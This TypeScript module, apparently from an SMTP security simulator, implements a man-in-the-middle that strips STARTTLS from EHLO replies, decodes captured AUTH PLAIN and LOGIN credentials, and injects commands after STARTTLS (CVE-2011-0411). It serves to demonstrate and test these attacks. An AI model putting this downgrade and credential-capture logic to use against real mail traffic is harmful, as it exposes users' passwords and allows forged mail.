/**
 * An active man-in-the-middle on the client's path, as RFC 3207 §6 describes: before TLS starts it can
 * read and change everything; after TLS starts it sees only records it cannot read.
 *
 * Modes:
 * - "strip-starttls": rewrites the plaintext EHLO reply it relays, removing STARTTLS and adding
 *   "AUTH PLAIN LOGIN", so an opportunistic client logs in in cleartext; it decodes any AUTH it sees
 *   (base64 is not encryption) and reports the credentials. A client that requires TLS aborts instead,
 *   and on 465 there is nothing to strip: the first octet is already TLS.
 * - "inject-after-starttls": appends its own plaintext commands to the client's STARTTLS packet
 *   (CVE-2011-0411, CERT VU#555316); a fixed server discards them.
 *
 * Rules: pure state machine over plaintext octets and replies; never touches TLS records.
 */

import { fromUtf8, utf8 } from "./bytes";
import type { EventBody, ReplyInfo } from "./events";
import { decodeLoginField, decodePlain } from "./sasl";

export interface AttackerConfig {
  mode: "strip-starttls" | "inject-after-starttls";
  /** Commands appended after STARTTLS in "inject-after-starttls" mode. */
  inject?: string[];
}

export const DEFAULT_INJECTION = [
  "MAIL FROM:<mallory@attacker.example>",
  "RCPT TO:<mallory@attacker.example>",
  "DATA",
];

export interface ClientSideResult {
  forward: Uint8Array;
  forwardLines: string[];
  events: EventBody[];
}

export interface ServerSideResult {
  changed: boolean;
  replies: ReplyInfo[];
  events: EventBody[];
}

export class Attacker {
  #authState: { mech: "PLAIN" | "LOGIN"; user: string | null } | null = null;

  constructor(readonly config: AttackerConfig) {}

  /** A plaintext segment from the client. */
  fromClient(data: Uint8Array): ClientSideResult {
    const text = fromUtf8(data);
    const lines = text.split("\n").map((l) => l.replace(/\r$/, ""));
    if (lines[lines.length - 1] === "") lines.pop();
    const events: EventBody[] = [];
    for (const line of lines) this.#watchAuth(line, events);
    if (
      this.config.mode === "inject-after-starttls" &&
      lines.length &&
      /^STARTTLS\s*$/i.test(lines[lines.length - 1] ?? "")
    ) {
      const inject = this.config.inject ?? DEFAULT_INJECTION;
      events.push({ kind: "AttackerInjected", lines: inject });
      const extra = utf8(inject.map((l) => `${l}\r\n`).join(""));
      const forward = new Uint8Array(data.length + extra.length);
      forward.set(data);
      forward.set(extra, data.length);
      return { forward, forwardLines: [...lines, ...inject], events };
    }
    return { forward: data, forwardLines: lines, events };
  }

  #watchAuth(line: string, events: EventBody[]): void {
    const capture = (mechanism: string, user: string, password: string) =>
      events.push({ kind: "AttackerCapturedCredentials", mechanism, user, password });
    if (this.#authState) {
      const st = this.#authState;
      this.#authState = null;
      if (line.trim() === "*") return;
      if (st.mech === "PLAIN") {
        const c = decodePlain(line.trim());
        if (c) capture("PLAIN", c.user, c.password);
        return;
      }
      const field = decodeLoginField(line.trim());
      if (field === null) return;
      if (st.user === null) this.#authState = { mech: "LOGIN", user: field };
      else capture("LOGIN", st.user, field);
      return;
    }
    const m = /^AUTH\s+(PLAIN|LOGIN)(?:\s+(\S+))?\s*$/i.exec(line);
    if (!m) return;
    const mech = (m[1] as string).toUpperCase() as "PLAIN" | "LOGIN";
    const ir = m[2];
    if (mech === "PLAIN") {
      if (ir) {
        const c = decodePlain(ir);
        if (c) capture("PLAIN", c.user, c.password);
      } else this.#authState = { mech, user: null };
    } else {
      this.#authState = { mech, user: ir ? decodeLoginField(ir) : null };
    }
  }

  /** Plaintext replies from the server, before they reach the client. */
  fromServer(replies: ReplyInfo[]): ServerSideResult {
    if (this.config.mode !== "strip-starttls") return { changed: false, replies, events: [] };
    let changed = false;
    const events: EventBody[] = [];
    const out = replies.map((r) => {
      const kws = r.lines.map((l) => l.slice(4));
      if (r.id !== "ehlo" || !kws.some((k) => k.toUpperCase() === "STARTTLS")) return r;
      changed = true;
      const body = kws.filter((k) => k.toUpperCase() !== "STARTTLS");
      const added = body.some((k) => /^AUTH\b/i.test(k)) ? [] : ["AUTH PLAIN LOGIN"];
      // Put AUTH where Postfix would list it (after ETRN), so the forged list looks genuine.
      const at = Math.max(
        1,
        body.findIndex((k) => k.toUpperCase() === "ENHANCEDSTATUSCODES"),
      );
      const next = [...body.slice(0, at), ...added, ...body.slice(at)];
      events.push({ kind: "AttackerRewrote", removed: ["STARTTLS"], added });
      const lines = next.map((k, i) => `${r.code}${i === next.length - 1 ? " " : "-"}${k}`);
      return { ...r, lines };
    });
    return { changed, replies: out, events };
  }
}
